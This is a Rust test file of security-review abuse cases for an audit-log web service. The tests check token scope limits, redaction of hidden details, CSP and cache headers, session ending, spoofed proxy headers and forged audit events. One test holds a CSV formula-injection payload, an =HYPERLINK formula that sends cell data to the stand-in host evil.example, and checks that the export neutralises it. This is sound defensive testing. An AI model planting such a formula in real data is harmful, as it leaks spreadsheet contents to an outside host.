//! The abuse cases of the security review (issue 18): each test fails if its protection is
//! taken away.

use crate::helpers::*;
use serde_json::{Value, json};
use trail_core::EventId;

async fn token_for(app: &TestApp, by: &str, scopes: &[&str]) -> (u16, Value) {
    app.post_raw("/api/v1/tokens", by, json!({"name": "t", "scopes": scopes}).to_string()).await
}

/// An administrator account `ada`, and a token of hers with `scopes`, issued at login.
async fn ada_token(app: &TestApp, scopes: &[&str]) -> String {
    let account = json!({"username": "ada", "roles": ["admin"], "password": "ada-secret"}).to_string();
    app.post_raw("/api/v1/accounts", ALICE, account).await;
    let login = json!({"username": "ada", "password": "ada-secret", "token": {"name": "t", "scopes": scopes}});
    let (status, answer) = app.post_raw("/api/v1/login", "", login.to_string()).await;
    assert_eq!(status, 200, "{answer}");
    secret(&answer)
}

fn secret(issued: &Value) -> String {
    issued["token"].as_str().unwrap_or_else(|| panic!("no token in {issued}")).to_owned()
}

/// A token never issues or manages tokens with scopes it does not hold; issuing needs the
/// `admin` scope (or a browser session).
#[tokio::test]
async fn a_token_cannot_escape_its_scopes() {
    let app = spawn_app().await;
    let ingest = ada_token(&app, &["ingest"]).await;
    let (status, body) = token_for(&app, &ingest, &["admin", "read"]).await;
    assert_eq!((status, error_code(&body)), (403, "forbidden"), "{body}");
    let (status, body) = token_for(&app, &ingest, &["ingest"]).await;
    assert_eq!((status, error_code(&body)), (403, "forbidden"), "issuing needs the admin scope: {body}");
    let account = json!({"username": "mallory", "roles": ["admin"], "password": "pw-123456"}).to_string();
    assert_eq!(app.post_raw("/api/v1/accounts", &ingest, account.clone()).await.0, 403);

    let admin_only = ada_token(&app, &["admin"]).await;
    let (status, body) = token_for(&app, &admin_only, &["admin", "read"]).await;
    assert_eq!((status, error_code(&body)), (403, "forbidden"), "admin alone does not hand on read: {body}");
    assert_eq!(token_for(&app, &admin_only, &["admin"]).await.0, 201, "the admin scope may issue what it holds");

    let (_, listed) = app.get_as(&ingest, "/api/v1/tokens").await;
    let listed = listed["tokens"].as_array().unwrap().clone();
    assert!(
        listed.iter().all(|t| t["scopes"] == json!(["ingest"])),
        "an ingest token sees only ingest tokens: {listed:?}"
    );
    let (_, all) = app.get("/api/v1/tokens").await;
    let admin_id =
        all["tokens"].as_array().unwrap().iter().find(|t| t["scopes"] == json!(["admin"])).unwrap()["id"].clone();
    let revoked = app.delete_as(&ingest, &format!("/api/v1/tokens/{admin_id}")).await;
    assert_eq!(revoked, 404, "an ingest token cannot revoke an admin token");
    let revoked = app.delete_as(&ingest, &format!("/api/v1/tokens/{}", listed[0]["id"])).await;
    assert_eq!(revoked, 200, "a token may revoke one it could have been");
}

/// Without the right to an entry's details, a message filter matches only line 1: the search
/// cannot tell what the details hide, in the lists, the export or the feed.
#[tokio::test]
async fn filters_cannot_read_hidden_details() {
    let app = spawn_app().await;
    let body = json!([edited("alice", "edge1", "Updated node (nodes)\ncommunity: s3cret-value")]);
    assert_eq!(app.post("/api/v1/events", body).await.0, 201);
    for token in [VIEWER, OPERATOR, EXPORTER] {
        let (_, hidden) = app.get_as(token, "/api/v1/events?all_users=true&message=s3cret").await;
        assert_eq!(hidden["events"], json!([]), "{token}: {hidden}");
        let (_, hidden) = app.get_as(token, "/api/v1/events?all_users=true&message=community%25s3c").await;
        assert_eq!(hidden["events"], json!([]), "{token}: {hidden}");
        let (_, shown) = app.get_as(token, "/api/v1/events?all_users=true&message=updated%20node").await;
        assert_eq!(shown["events"][0]["message"], "Updated node (nodes)", "{token}: line 1 only");
    }
    let (_, full) = app.get("/api/v1/events?all_users=true&message=s3cret").await;
    assert_eq!(full["events"].as_array().unwrap().len(), 1, "details_all searches the whole message");

    let export = "/api/v1/export?all_users=true&message=";
    assert_eq!(app.text_as(EXPORTER, &format!("{export}s3cret")).await, "", "the export filters as the lists do");
    let exported = app.text_as(EXPORTER, &format!("{export}updated")).await;
    assert!(exported.contains("Updated node") && !exported.contains("s3cret"), "{exported}");
    let exported = app.text_as(EXPORTER, &format!("{export}s3cret&format=csv")).await;
    assert_eq!(exported.lines().count(), 1, "the CSV header alone: {exported}");
}

/// The feed shows what the lists show: others' entries only with `read_all`, details only
/// with their right; its reading is recorded as exports are, once per reader and period.
#[tokio::test]
async fn the_feed_follows_the_rights_and_is_recorded() {
    let app = spawn_app().await;
    app.post(
        "/api/v1/events",
        json!([edited("alice", "e1", "first\nhidden detail"), edited("xena", "e2", "xena's own\nher detail")]),
    )
    .await;
    let (status, feed) = app.get_as(EXPORTER, "/api/v1/feed?after=0").await;
    assert_eq!(status, 200, "{feed}");
    let messages: Vec<&str> =
        feed["events"].as_array().unwrap().iter().map(|e| e["message"].as_str().unwrap()).collect();
    assert_eq!(messages[..2], ["first", "xena's own"], "line 1 only without details rights");
    assert!(!feed.to_string().contains("hidden detail"));
    let next_after = feed["next_after"].as_i64().unwrap();
    assert!(next_after >= 2, "{feed}");
    assert_eq!(feed["whole"], false, "a redacted view says so (verify refuses it)");
    assert_eq!(app.get("/api/v1/feed?after=0").await.1["whole"], true);

    let ingest = ada_token(&app, &["ingest"]).await;
    assert_eq!(app.get_as(&ingest, "/api/v1/feed").await.0, 403, "the feed needs the export right");

    app.get_as(EXPORTER, &format!("/api/v1/feed?after={next_after}")).await;
    let (_, everything) = app.get("/api/v1/feed?after=0").await;
    let audits: Vec<&Value> = everything["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "AUDIT_EXPORT" && e["user"] == "xena")
        .collect();
    assert_eq!(audits.len(), 1, "one record for a reader's reading, not one per poll: {everything}");
    assert_eq!(audits[0]["name"], "events as feed");
}

/// A login attempt needs no account, so its username is anyone's text: in a CSV export, no
/// cell may start a formula. NDJSON keeps it as it was.
#[tokio::test]
async fn csv_exports_carry_no_formulas() {
    let app = spawn_app().await;
    let attack = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
    let login = json!({"username": attack, "password": "x"}).to_string();
    assert_eq!(app.post_raw("/api/v1/login", "", login).await.0, 401);
    let csv = app.text_as(ALICE, "/api/v1/export?all_users=true&format=csv").await;
    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
    let mut cells = 0;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            cells += 1;
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell would run: {cell:?}");
        }
    }
    assert!(cells > 0 && csv.contains("'=HYPERLINK("), "{csv}");
    let ndjson = app.text_as(ALICE, "/api/v1/export?all_users=true").await;
    assert!(ndjson.contains(r#""name":"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")""#), "{ndjson}");
}

/// Answers carrying secrets or details are never cached.
#[tokio::test]
async fn secrets_and_details_are_not_cached() {
    let app = spawn_app().await;
    let (_, ids) = app.post("/api/v1/events", json!([edited("alice", "e", "m\ndetail")])).await;
    let id = ids["ids"][0].clone();
    let account = json!({"username": "ada", "roles": ["admin"], "password": "ada-secret"}).to_string();
    app.post_raw("/api/v1/accounts", ALICE, account).await;
    let login = json!({"username": "ada", "password": "ada-secret", "token": {"name": "t", "scopes": ["read"]}});
    let answers = [
        app.client.post(format!("{}/api/v1/login", app.base)).json(&login),
        app.client.get(format!("{}/api/v1/events/{id}", app.base)).bearer_auth(ALICE),
        app.client.get(format!("{}/api/v1/export?all_users=true", app.base)).bearer_auth(ALICE),
        app.client.get(format!("{}/api/v1/feed", app.base)).bearer_auth(ALICE),
        app.client.get(format!("{}/api/v1/events?all_users=true", app.base)).bearer_auth(ALICE),
    ];
    for request in answers {
        let response = request.send().await.unwrap();
        let url = response.url().clone();
        assert_eq!(response.headers().get("cache-control").map(|v| v.to_str().unwrap()), Some("no-store"), "{url}");
    }
}

/// A route added without a decision in the rights table is refused to everyone, the
/// automation token included, and its handler never runs (fail closed).
#[tokio::test]
async fn a_route_without_a_rights_decision_is_refused() {
    let reached = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = reached.clone();
    let routes = axum::Router::new().route(
        "/api/v1/undecided",
        axum::routing::get(move || async move {
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            "reached"
        }),
    );
    let app = spawn_guarded(routes).await;
    for token in [ALICE, VIEWER, ""] {
        let (status, body) = app.get_as(token, "/api/v1/undecided").await;
        assert_eq!(status, 403, "{token:?}: {body}");
        assert!(body["error"]["message"].as_str().unwrap().contains("has no rights decision"), "{body}");
    }
    assert_eq!(reached.load(std::sync::atomic::Ordering::SeqCst), 0, "the handler never ran");
}

/// The CSP (no inline script or style, nothing from elsewhere, no framing) is on every answer:
/// each page, asset and API answer, errors and the live stream included. It is the second line
/// of defence; escaping is checked without it (the browser test reads each page's source).
#[tokio::test]
async fn every_answer_carries_the_content_security_policy() {
    const CSP: &str = "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; \
                       form-action 'self'; frame-ancestors 'none'; base-uri 'none'";
    let app = spawn_app().await;
    let (_, ids) = app.post("/api/v1/events", json!([edited("alice", "e", "m")])).await;
    let id = ids["ids"][0].clone();
    let (_, job) = app.post("/api/v1/jobs", json!({"name": "scan", "targets": ["edge1"]})).await;
    let job = job["id"].clone();
    let account = json!({"username": "ada", "roles": ["admin"], "password": "ada-secret"}).to_string();
    app.post_raw("/api/v1/accounts", ALICE, account).await;
    let (session, _) = session_of(&app, "ada", "ada-secret").await;
    let cookie = format!("trail_session={session}");
    // Redirects are answers too: each is checked, not followed.
    let client = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let pages = [
        "/".to_owned(),
        format!("/events/{id}"),
        "/jobs".into(),
        format!("/jobs/{job}"),
        "/status".into(),
        "/admin/users".into(),
        "/admin/tokens".into(),
        "/admin/policy".into(),
        "/admin/destinations".into(),
        "/events/999999".into(),
        "/assets/app.js".into(),
        "/assets/app.css".into(),
        "/assets/missing.js".into(),
    ];
    let mut requests: Vec<reqwest::RequestBuilder> =
        pages.iter().map(|page| client.get(format!("{}{page}", app.base)).header("cookie", &cookie)).collect();
    requests.extend([
        client.get(format!("{}/login", app.base)),
        client.get(format!("{}/", app.base)),
        client.get(format!("{}/api/v1/events", app.base)).bearer_auth(ALICE),
        client.get(format!("{}/api/v1/events", app.base)),
        client.get(format!("{}/api/v1/events?month=13", app.base)).bearer_auth(ALICE),
        client.delete(format!("{}/api/v1/events", app.base)).bearer_auth(ALICE),
        client.get(format!("{}/api/v1/accounts", app.base)).bearer_auth(VIEWER),
        client.post(format!("{}/api/v1/events", app.base)).bearer_auth(ALICE).body("not json"),
        client.get(format!("{}/api/v1/nothing-here", app.base)).bearer_auth(ALICE),
        client.get(format!("{}/api/openapi.json", app.base)),
        client.get(format!("{}/metrics", app.base)).bearer_auth(ALICE),
        client.get(format!("{}/api/v1/status/stream", app.base)).bearer_auth(ALICE),
    ]);
    let mut statuses = std::collections::BTreeSet::new();
    for request in requests {
        let response = request.send().await.unwrap();
        let (url, status) = (response.url().clone(), response.status());
        statuses.insert(status.as_u16());
        let csp = response.headers().get("content-security-policy").map(|v| v.to_str().unwrap().to_owned());
        assert_eq!(csp.as_deref(), Some(CSP), "{status} {url}");
        assert_eq!(response.headers()["x-frame-options"], "DENY", "{url}");
        assert_eq!(response.headers()["x-content-type-options"], "nosniff", "{url}");
    }
    for expected in [200, 303, 400, 401, 403, 404, 405] {
        assert!(statuses.contains(&expected), "the answers checked include a {expected}: {statuses:?}");
    }
}

/// Following jobs (`jobs`, as an operator or a read-scoped token has it) is not writing into
/// them: reports and log lines come from the platform (`ingest`) or the job's submitter. Leaf
/// messages and logs are details of the submitter's entries.
#[tokio::test]
async fn job_writes_need_ingest_or_the_submitter_and_job_details_follow_the_rights() {
    let app = spawn_app().await;
    let (_, alices) = app.post("/api/v1/jobs", json!({"name": "archive", "targets": ["e1", "e2"]})).await;
    let alices = alices["id"].as_i64().unwrap();
    let status = json!({"status": "failed", "message": "timeout\ncommunity s3cret rejected"}).to_string();
    let log = json!({"lines": ["pushed community s3cret"]}).to_string();
    let report_path = format!("/api/v1/jobs/{alices}/targets/e1/status");
    let log_path = format!("/api/v1/jobs/{alices}/log");
    let (code, body) = app.post_raw(&report_path, OPERATOR, status.clone()).await;
    assert_eq!((code, error_code(&body)), (403, "forbidden"), "{body}");
    assert_eq!(app.post_raw(&log_path, OPERATOR, log.clone()).await.0, 403);
    let ingest = ada_token(&app, &["ingest"]).await;
    assert_eq!(app.post_raw(&report_path, &ingest, status.clone()).await.0, 200, "the platform reports");
    assert_eq!(app.post_raw(&log_path, &ingest, log.clone()).await.0, 201);

    let (_, olgas) =
        app.post_raw("/api/v1/jobs", OPERATOR, json!({"name": "mine", "targets": ["e9"]}).to_string()).await;
    let olgas = olgas["id"].as_i64().unwrap();
    let own_report = app.post_raw(&format!("/api/v1/jobs/{olgas}/targets/e9/status"), OPERATOR, status).await;
    assert_eq!(own_report.0, 200, "a submitter reports on their own job: {}", own_report.1);
    assert_eq!(app.post_raw(&format!("/api/v1/jobs/{olgas}/log"), OPERATOR, log).await.0, 201);

    let (_, seen) = app.get_as(OPERATOR, &format!("/api/v1/jobs/{alices}")).await;
    let leaf = seen["leaves"].as_array().unwrap().iter().find(|l| l["target"] == "e1").unwrap().clone();
    assert_eq!(leaf["message"], "timeout", "another's leaf message: line 1 only");
    let (code, body) = app.get_as(OPERATOR, &log_path).await;
    assert_eq!((code, error_code(&body)), (403, "forbidden"), "another's job log is a detail: {body}");
    let (_, own) = app.get_as(OPERATOR, &format!("/api/v1/jobs/{olgas}/log")).await;
    assert_eq!(own["entries"][0]["text"], "pushed community s3cret", "one's own job log");
    let (_, full) = app.get(&format!("/api/v1/jobs/{alices}")).await;
    let leaf = full["leaves"].as_array().unwrap().iter().find(|l| l["target"] == "e1").unwrap().clone();
    assert_eq!(leaf["message"], "timeout\ncommunity s3cret rejected", "details_all sees it whole");
}

/// Matching costs the text's length times the pattern's: readers' patterns are bounded, in
/// the lists, exports and job logs alike, and refused with a reason.
#[tokio::test]
async fn search_patterns_are_bounded() {
    let app = spawn_app().await;
    let (_, job) = app.post("/api/v1/jobs", json!({"name": "j", "targets": ["e1"]})).await;
    let long = "a".repeat(257);
    let wild = "a_".repeat(17);
    for path in [
        format!("/api/v1/events?all_users=true&message={long}"),
        format!("/api/v1/events?all_users=true&name={wild}"),
        format!("/api/v1/export?all_users=true&action={wild}"),
        format!("/api/v1/jobs/{}/log?q={wild}", job["id"]),
    ] {
        let (status, body) = app.get(&path).await;
        assert_eq!((status, error_code(&body)), (400, "invalid_query"), "{path}: {body}");
        let message = body["error"]["message"].as_str().unwrap();
        assert!(message.contains("at most"), "{message}");
    }
    let (status, _) = app.get(&format!("/api/v1/events?all_users=true&message={}", "a_".repeat(16))).await;
    assert_eq!(status, 200, "within the bounds");
}

/// Logs in over the API; answers the session cookie's value and its CSRF token.
async fn session_of(app: &TestApp, name: &str, password: &str) -> (String, String) {
    let response = app
        .client
        .post(format!("{}/api/v1/login", app.base))
        .json(&json!({"username": name, "password": password}))
        .send()
        .await
        .unwrap();
    let cookie = response.headers()["set-cookie"].to_str().unwrap().to_owned();
    let id = cookie.split(';').next().unwrap().trim_start_matches("trail_session=").to_owned();
    let body: Value = response.json().await.unwrap();
    (id, body["csrf"].as_str().unwrap().to_owned())
}

async fn read_with_session(app: &TestApp, session: &str) -> u16 {
    let request =
        app.client.get(format!("{}/api/v1/events", app.base)).header("cookie", format!("trail_session={session}"));
    request.send().await.unwrap().status().as_u16()
}

/// A password change ends the account's other sessions and says so; tokens are kept unless
/// the change asks to revoke them all.
#[tokio::test]
async fn a_password_change_ends_other_sessions() {
    let app = spawn_app().await;
    let account = json!({"username": "kim", "roles": ["admin"], "password": "kim-secret-1"}).to_string();
    app.post_raw("/api/v1/accounts", ALICE, account).await;
    let login = json!({"username": "kim", "password": "kim-secret-1", "token": {"name": "t", "scopes": ["read"]}});
    let token = secret(&app.post_raw("/api/v1/login", "", login.to_string()).await.1);
    let (first, first_csrf) = session_of(&app, "kim", "kim-secret-1").await;
    let (second, _) = session_of(&app, "kim", "kim-secret-1").await;

    // Kim changes her own password from her first session: the second ends, the first stays.
    let response = app
        .client
        .post(format!("{}/api/v1/accounts/kim/password", app.base))
        .header("cookie", format!("trail_session={first}"))
        .header("x-csrf-token", &first_csrf)
        .json(&json!({"password": "kim-secret-2"}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let answer: Value = response.json().await.unwrap();
    // The token's login opened a session too: two end.
    assert_eq!((answer["sessions_ended"].as_u64(), answer["tokens_revoked"].as_u64()), (Some(2), Some(0)), "{answer}");
    assert_eq!(read_with_session(&app, &second).await, 401, "the other session ended");
    assert_eq!(read_with_session(&app, &first).await, 200, "the session that made the change goes on");
    assert_eq!(app.get_as(&token, "/api/v1/events").await.0, 200, "tokens are kept by default");

    let body = json!({"password": "kim-secret-3", "revoke_tokens": true}).to_string();
    let (status, answer) = app.post_raw("/api/v1/accounts/kim/password", ALICE, body).await;
    assert_eq!((status, answer["sessions_ended"].as_u64(), answer["tokens_revoked"].as_u64()), (200, Some(1), Some(1)));
    assert_eq!(read_with_session(&app, &first).await, 401, "an administrator's change ends every session");
    assert_eq!(app.get_as(&token, "/api/v1/events").await.0, 401, "and revokes the tokens when asked");
    let (_, feed) = app.get("/api/v1/feed").await;
    let changes: Vec<&Value> =
        feed["events"].as_array().unwrap().iter().filter(|e| e["kind"] == "USER_PASSWORD_CHANGED").collect();
    assert_eq!(changes[1]["attributes"]["sessions_ended"], "1");
    assert_eq!(changes[1]["attributes"]["tokens"], "1 revoked", "the event says what ended");
}

/// The client of a login is the TCP peer, unless that peer is a trusted proxy: then it is the
/// address the proxy names. A client's own `X-Forwarded-For` names nobody.
#[tokio::test]
async fn only_a_trusted_proxy_names_the_client() {
    let login_from = |app: &TestApp, forwarded: &'static str| {
        let request = app.client.post(format!("{}/api/v1/login", app.base)).header("x-forwarded-for", forwarded);
        async move { request.json(&json!({"username": "nobody", "password": "x"})).send().await.unwrap() }
    };
    let clients = |app: &TestApp| {
        let store = app.store.clone();
        async move {
            let events = store.read_after(EventId::ZERO, 100).await.unwrap();
            events
                .into_iter()
                .filter(|e| e.body.kind == "AUTH_LOGIN_FAILURE")
                .map(|e| e.body.client.unwrap())
                .collect::<Vec<_>>()
        }
    };
    let direct = spawn_app().await;
    login_from(&direct, "203.0.113.9").await;
    assert_eq!(clients(&direct).await, ["127.0.0.1"], "a forged header is ignored");
    let proxied = spawn_app_adjusted(trail_server::ServerConfig::default(), |state| {
        state.trusted_proxies =
            std::sync::Arc::new(trail_server::client::TrustedProxies::parse(&["127.0.0.1".into()]).unwrap());
    })
    .await;
    login_from(&proxied, "198.51.100.1, 203.0.113.9").await;
    assert_eq!(clients(&proxied).await, ["203.0.113.9"], "the address the trusted proxy appended");
}

/// Ingest cannot forge Trail's own audit events: the kinds only Trail records are refused,
/// whole batch and all, from events and changes alike.
#[tokio::test]
async fn ingest_cannot_forge_trails_own_records() {
    let app = spawn_app().await;
    for kind in ["USER_ADDED", "AUTH_LOGIN_SUCCESS", "TOKEN_CREATED", "AUDIT_EXPORT", "RETENTION_PURGED"] {
        let batch =
            json!([edited("alice", "e", "fine"), {"user": "admin", "kind": kind, "name": "mallory", "message": "m"}]);
        let (status, body) = app.post("/api/v1/events", batch).await;
        assert_eq!((status, error_code(&body)), (422, "invalid_event"), "{kind}: {body}");
        let message = body["error"]["message"].as_str().unwrap();
        assert!(message.contains("event 1") && message.contains("recorded by Trail itself"), "{message}");
    }
    let change = json!({"user": "admin", "kind": "USER_PASSWORD_CHANGED", "op": "update", "object": "user",
        "table": "users", "keys": {"name": "x"}, "changes": [{"variable": "v", "old": "a", "new": "b"}]});
    assert_eq!(app.post("/api/v1/changes", change).await.0, 422);
    app.assert_nothing_stored_and_still_serving().await;
    let own = json!({"user": "platform", "kind": "ACME.LOGIN", "process": "acme", "action": "login",
        "severity": "notice", "message": "a platform's own login record"});
    assert_eq!(app.post("/api/v1/events", own).await.0, 201, "a namespaced kind of one's own is fine");
}

/// Every event records the credential that sent it, whatever the event says of its user: a
/// platform's report is told from Trail's own record, one token from another.
#[tokio::test]
async fn every_event_records_who_sent_it() {
    let app = spawn_app().await;
    let ingest = ada_token(&app, &["ingest", "read"]).await;
    let forged =
        json!({"user": "admin", "kind": "DEVICE_EDITED", "name": "e", "message": "m", "submitted_by": "trail"});
    let (_, sent) = app.post_raw("/api/v1/events", &ingest, forged.to_string()).await;
    let (_, by_alice) = app.post("/api/v1/events", edited("alice", "e", "m")).await;
    let (_, job) = app.post("/api/v1/jobs", json!({"name": "j", "targets": ["e1"]})).await;
    let report = json!({"status": "succeeded", "message": "ok"}).to_string();
    app.post_raw(&format!("/api/v1/jobs/{}/targets/e1/status", job["id"]), &ingest, report).await;
    let (_, feed) = app.get("/api/v1/feed").await;
    let events = feed["events"].as_array().unwrap();
    let by_id = |id: &Value| events.iter().find(|e| &e["id"] == id).unwrap().clone();
    let token_id = app.get("/api/v1/tokens").await.1["tokens"][0]["id"].clone();
    let ada = format!("token {token_id} \"t\" of ada");
    assert_eq!(by_id(&sent["ids"][0])["submitted_by"], ada, "the credential, not what the body claims");
    assert_eq!(by_id(&by_alice["ids"][0])["submitted_by"], "configured token of alice");
    let leaf = events.iter().find(|e| e["kind"] == "LEAF_OPERATION_COMPLETED").unwrap();
    assert_eq!(leaf["user"], "alice", "the job's events are the submitter's");
    assert_eq!(leaf["submitted_by"], ada, "but say who reported");
    let login = events.iter().find(|e| e["kind"] == "AUTH_LOGIN_SUCCESS").unwrap();
    assert_eq!(login["submitted_by"], "trail", "Trail's own record of a login");
    assert!(events.iter().all(|e| e["submitted_by"].is_string()), "every event says who sent it: {feed}");
    let csv = app.text_as(ALICE, "/api/v1/export?all_users=true&format=csv").await;
    let quoted = ada.replace('"', "\"\"");
    assert!(csv.lines().next().unwrap().contains(",submitted_by,") && csv.contains(&quoted), "{csv}");
}

/// The web UI's token pages answer bearer tokens too: they list and revoke only the tokens
/// the credential may manage, as the API does.
#[tokio::test]
async fn the_ui_token_pages_keep_a_token_within_its_scopes() {
    let app = spawn_app().await;
    let admin_only = ada_token(&app, &["admin"]).await;
    let login =
        json!({"username": "ada", "password": "ada-secret", "token": {"name": "wide", "scopes": ["admin", "read"]}});
    app.post_raw("/api/v1/login", "", login.to_string()).await;
    let (_, all) = app.get("/api/v1/tokens").await;
    let wide = all["tokens"].as_array().unwrap().iter().find(|t| t["name"] == "wide").unwrap()["id"].clone();
    let page = app.text_as(&admin_only, "/admin/tokens").await;
    assert!(page.contains("ada") && !page.contains(">wide<"), "the wider token is not listed: {page}");
    let revoke = app.client.post(format!("{}/admin/tokens/{wide}/revoke", app.base)).bearer_auth(&admin_only);
    revoke.send().await.unwrap();
    let (_, after) = app.get("/api/v1/tokens").await;
    let still = after["tokens"].as_array().unwrap().iter().find(|t| t["name"] == "wide").unwrap().clone();
    assert!(still["revoked_at"].is_null(), "the wider token stays: {still}");
    let long = json!({"name": "n".repeat(65), "scopes": ["admin"]}).to_string();
    assert_eq!(app.post_raw("/api/v1/tokens", &admin_only, long).await.0, 422, "token names are bounded");
}
